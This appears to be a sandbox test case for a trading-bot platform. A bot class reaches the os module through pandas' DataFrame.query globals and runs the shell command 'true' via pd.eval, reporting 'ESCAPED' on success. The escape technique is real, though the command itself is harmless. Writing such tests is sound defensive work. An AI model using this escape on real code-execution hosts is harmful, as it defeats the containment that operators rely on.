# expect: OK|FORBIDDEN|FAILED
# category: code; harmless outside
import pandas as pd

from bot_sdk import Action, CustomBot


class Attack(CustomBot):
    def execute_algorithm(self, data, timeframe, subscription_config):
        frame = pd.DataFrame({"close": [1.0]})
        reach = frame.query.__func__.__globals__["sys"].modules["os"]
        if pd.eval("reach.system('true')", engine="python", local_dict={"reach": reach}) == 0:
            return Action("BUY", 1.0, "ESCAPED: ran a shell")
        return Action("HOLD", 1.0, "nothing gained")
